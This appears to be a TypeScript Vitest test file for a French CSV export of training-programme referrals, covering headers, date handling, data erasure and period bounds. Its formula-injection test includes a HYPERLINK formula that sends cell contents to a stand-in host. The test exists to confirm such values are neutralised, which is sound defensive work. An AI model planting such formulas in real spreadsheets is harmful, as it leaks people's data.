import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import {
  EXPORT_HEADERS,
  periodBounds,
  prescriptionsCsv,
  type ExportLabels,
} from '../../../data/prescriptions/export.js';
import type { HistoryEntry, Prescription } from '../../../data/prescriptions/model.js';
import { erased } from '../../../data/prescriptions/prescriptions.js';

const LABELS: ExportLabels = {
  reason: (list, code) => `${list}:${code}`,
  dispositif: (id) =>
    ({
      'prepa-competences': 'Prépa Compétences',
      'competences-pec': 'Compétences PEC',
      'promo-16-18': 'La Promo 16/18',
    })[id],
};

const REFERENT = { id: '29:ref', aadObjectId: 'aad-ref', name: 'Claire Référente' };

function prescription(more: Partial<Prescription> = {}): Prescription {
  return {
    id: 'P-ABC234',
    formId: 'form-0000001',
    dispositif: 'prepa-competences',
    volet: 'volet-1',
    session: {
      id: 'prepa-avril',
      start: '2027-04-12',
      end: '2027-04-23',
      place: 'Centre AFPA de Montauban',
      modality: 'presentiel',
      volet: 'volet-1',
    },
    person: {
      lastName: 'Dupré',
      firstName: 'Élodie',
      birthDate: '1990-05-07',
      phone: '06 12 34 56 78',
      email: 'elodie.dupre@exemple.fr',
      town: 'Montauban',
    },
    situation: { rsa: true, accompaniedByDepartment: true, registeredJobseeker: false },
    conditions: { mobility: true, childcare: false, other: true, otherText: 'horaires décalés' },
    comment: 'Préfère les matinées',
    consent: { adhesion: true, dataInformed: true },
    referent: REFERENT,
    // 23:30 UTC on 31 January is already 1 February in Paris.
    createdAt: '2027-01-31T23:30:00.000Z',
    history: [{ at: '2027-01-31T23:30:00.000Z', status: 'envoyee', actor: 'referent', by: REFERENT }],
    reminders: [],
    ...more,
  };
}

function rows(csv: string): Record<string, string>[] {
  return parse(csv.replace(/^\uFEFF/, ''), {
    delimiter: ';',
    columns: true,
    record_delimiter: '\r\n',
  }) as Record<string, string>[];
}

const step = (entry: Partial<HistoryEntry> & Pick<HistoryEntry, 'at' | 'status'>): HistoryEntry => ({
  actor: 'afpa',
  by: { id: '29:afpa', name: 'Agent AFPA' },
  ...entry,
});

describe('prescriptionsCsv', () => {
  it('is Excel-ready: BOM, « ; » between cells, CRLF line ends, French headers', () => {
    const csv = prescriptionsCsv([prescription()], LABELS);
    expect(csv.startsWith('\uFEFFréférence;date d’envoi;dispositif;volet;session;nom;prénom;')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.split('\r\n')).toHaveLength(3);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/\n/);
    expect(csv.split('\r\n')[0]!.replace('\uFEFF', '').split(';')).toEqual([...EXPORT_HEADERS]);
    expect(EXPORT_HEADERS).toEqual([
      'référence',
      'date d’envoi',
      'dispositif',
      'volet',
      'session',
      'nom',
      'prénom',
      'date de naissance',
      'téléphone',
      'e-mail',
      'commune',
      'RSA',
      'accompagné(e) par le Département',
      'inscrit(e) à France Travail',
      'contrat PEC',
      'accord employeur PEC',
      'ASE',
      'autorisation parentale',
      'conditions à sécuriser',
      'commentaire',
      'référent',
      'statut',
      'date du statut',
      'motif',
      'date d’entrée',
      'date de sortie',
    ]);
  });

  it('writes one line per prescription, with Paris days and French labels, accents kept', () => {
    const [row] = rows(prescriptionsCsv([prescription()], LABELS));
    expect(row).toEqual({
      référence: 'P-ABC234',
      'date d’envoi': '01/02/2027',
      dispositif: 'Prépa Compétences',
      volet: 'Volet 1 : consolider son projet (5 à 6 jours)',
      session: '12/04/2027, Centre AFPA de Montauban',
      nom: 'Dupré',
      prénom: 'Élodie',
      'date de naissance': '07/05/1990',
      téléphone: '06 12 34 56 78',
      'e-mail': 'elodie.dupre@exemple.fr',
      commune: 'Montauban',
      RSA: 'oui',
      'accompagné(e) par le Département': 'oui',
      'inscrit(e) à France Travail': 'non',
      'contrat PEC': '',
      'accord employeur PEC': '',
      ASE: '',
      'autorisation parentale': '',
      'conditions à sécuriser': 'mobilité, autre : horaires décalés',
      commentaire: 'Préfère les matinées',
      référent: 'Claire Référente',
      statut: 'Envoyée à l’AFPA',
      'date du statut': '01/02/2027',
      motif: '',
      'date d’entrée': '',
      'date de sortie': '',
    });
  });

  it('says « première session disponible », the parental authorisation, the reason and the entry and exit days', () => {
    const p = prescription({
      dispositif: 'promo-16-18',
      volet: '',
      session: null,
      situation: { ase: true, parentalAuthorisation: false },
      history: [
        ...prescription().history,
        step({ at: '2027-02-03T09:00:00.000Z', status: 'recue' }),
        step({ at: '2027-02-10T09:00:00.000Z', status: 'entree', date: '2027-02-10' }),
        step({ at: '2027-03-01T09:00:00.000Z', status: 'abandon', date: '2027-02-26', reason: 'emploi' }),
      ],
    });
    const [row] = rows(prescriptionsCsv([p], LABELS));
    expect(row).toMatchObject({
      dispositif: 'La Promo 16/18',
      volet: '',
      session: 'première session disponible',
      ASE: 'oui',
      'autorisation parentale': 'non',
      statut: 'Abandon',
      'date du statut': '01/03/2027',
      motif: 'abandon:emploi',
      'date d’entrée': '10/02/2027',
      'date de sortie': '26/02/2027',
    });
    const refused = prescription({
      history: [
        ...prescription().history,
        step({ at: '2027-02-02T09:00:00.000Z', status: 'refusee', reason: 'complet' }),
      ],
    });
    expect(rows(prescriptionsCsv([refused], LABELS))[0]!.motif).toBe('refusal:complet');
  });

  it('exports an erased prescription with its personal columns empty, its reference and status kept', () => {
    const p = erased(prescription({ comment: 'À rappeler' }), new Date('2029-03-01T00:00:00Z'));
    const [row] = rows(prescriptionsCsv([p], LABELS));
    for (const column of [
      'nom',
      'prénom',
      'date de naissance',
      'téléphone',
      'e-mail',
      'commune',
      'conditions à sécuriser',
      'commentaire',
    ])
      expect(row![column], column).toBe('');
    expect(row).toMatchObject({
      référence: 'P-ABC234',
      statut: 'Envoyée à l’AFPA',
      dispositif: 'Prépa Compétences',
    });
    const csv = prescriptionsCsv([p], LABELS);
    expect(csv).not.toMatch(/Dupré|Élodie|1900|Montauban;oui/);
  });

  it('neutralises formula injection: a cell starting with = + - @, a tab or a CR starts with an apostrophe', () => {
    const p = prescription({
      person: {
        ...prescription().person,
        lastName: '=HYPERLINK("http://x.example/?"&A1;"clic")',
        firstName: '+33',
        town: '-2+3',
        email: '@SUM(A1)',
      },
      comment: '\tcaché',
      conditions: { mobility: false, childcare: false, other: true, otherText: 'rien' },
      referent: { ...REFERENT, name: '\r=1+1' },
    });
    const csv = prescriptionsCsv([p], LABELS);
    const [row] = rows(csv);
    expect(row!.nom).toBe('\'=HYPERLINK("http://x.example/?"&A1;"clic")');
    expect(row!.prénom).toBe("'+33");
    expect(row!.commune).toBe("'-2+3");
    expect(row!['e-mail']).toBe("'@SUM(A1)");
    expect(row!.commentaire).toBe("'\tcaché");
    expect(row!.référent).toBe("'\r=1+1");
    // No cell of the file starts with a formula character.
    const cells = csv.split('\r\n').slice(1, -1)[0]!;
    expect(cells).not.toMatch(/(^|;)"?[=+\-@]/);
  });

  it('keeps a line per prescription when a comment holds a « ; », quotes or line breaks', () => {
    const p = prescription({ comment: 'Deux lignes ;\net des "guillemets"' });
    const parsed = rows(prescriptionsCsv([p, prescription({ id: 'P-ABC235' })], LABELS));
    expect(parsed.map((r) => r.référence)).toEqual(['P-ABC234', 'P-ABC235']);
    expect(parsed[0]!.commentaire).toBe('Deux lignes ;\net des "guillemets"');
  });

  it('writes the headers alone when there is nothing to export', () => {
    expect(prescriptionsCsv([], LABELS)).toBe(`\uFEFF${EXPORT_HEADERS.join(';')}\r\n`);
  });
});

describe('periodBounds', () => {
  it('turns Paris days into instants, the last day included', () => {
    // Winter: Paris is UTC+1.
    expect(periodBounds('2027-01-01', '2027-01-31')).toEqual({
      from: '2026-12-31T23:00:00.000Z',
      to: '2027-01-31T23:00:00.000Z',
    });
    // Summer time starts on 28 March 2027: the day after 31 March starts at 22:00 UTC.
    const { from, to } = periodBounds('2027-03-01', '2027-03-31');
    expect(from).toBe('2027-02-28T23:00:00.000Z');
    expect(to).toBe('2027-03-31T22:00:00.000Z');
    const inPeriod = (iso: string) => iso >= from && iso < to;
    expect(inPeriod('2027-03-31T21:59:59.999Z')).toBe(true);
    expect(inPeriod('2027-03-31T22:00:00.000Z')).toBe(false);
    expect(inPeriod('2027-02-28T22:59:59.999Z')).toBe(false);
  });

  it('accepts a one-day period and leaves an open side open', () => {
    expect(periodBounds('2027-06-15', '2027-06-15')).toEqual({
      from: '2027-06-14T22:00:00.000Z',
      to: '2027-06-15T22:00:00.000Z',
    });
    const open = periodBounds();
    expect(open.from <= '1970-01-01T00:00:00.000Z').toBe(true);
    expect(open.to > '9000-01-01T00:00:00.000Z').toBe(true);
    expect(periodBounds('2027-06-15').to).toBe(open.to);
    expect(periodBounds(undefined, '2027-06-15').from).toBe(open.from);
  });

  it('refuses a bad day or a start after the end, in French', () => {
    expect(() => periodBounds('2027-02-30')).toThrow(/Date invalide : « 2027-02-30 »/);
    expect(() => periodBounds(undefined, '31/03/2027')).toThrow(/AAAA-MM-JJ/);
    expect(() => periodBounds('2027-3-1')).toThrow(/Date invalide/);
    expect(() => periodBounds('2027-04-01', '2027-03-31')).toThrow(/début .* après la date de fin/);
  });
});
